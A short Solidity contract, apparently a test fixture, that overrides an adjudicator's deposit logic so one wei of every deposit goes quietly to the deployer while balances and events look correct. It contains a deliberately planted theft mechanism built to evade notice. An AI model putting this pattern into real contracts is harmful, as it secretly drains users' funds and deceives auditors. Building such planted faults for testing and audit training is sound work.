// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Adjudicator} from "./Adjudicator.sol";

/// A planted anomaly: one wei of each deposit goes to whoever deployed it. Books and events look right, and so do payouts as
/// long as the money of other channels covers what is missing.
contract SkimmingAdjudicator is Adjudicator {
  address private immutable thief = msg.sender;

  function take(address asset, uint256 amount) internal override {
    super.take(asset, amount);
    if (amount > 0) {
      pay(asset, thief, 1);
    }
  }
}
